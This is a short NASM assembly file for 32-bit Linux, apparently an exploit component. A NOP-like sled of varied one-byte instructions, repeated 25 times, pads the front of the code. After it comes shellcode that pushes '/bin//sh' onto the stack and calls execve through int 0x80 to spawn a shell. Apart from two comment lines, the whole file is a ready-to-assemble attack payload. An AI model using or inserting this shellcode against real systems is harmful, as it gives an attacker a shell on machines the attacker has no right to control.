; A NOP-like sled (nop, inc/dec, xchg eax, cld, clc, ...) in front of the
; i386 execve: what an exploit pads its jump target with.
BITS 32
%rep 25
    db 0x90, 0x41, 0x4b, 0x97, 0xfc, 0x90, 0xf8, 0x99
%endrep
    xor eax, eax
    push eax
    push 0x68732f2f
    push 0x6e69622f
    mov ebx, esp
    push eax
    push ebx
    mov ecx, esp
    xor edx, edx
    mov al, 11
    int 0x80
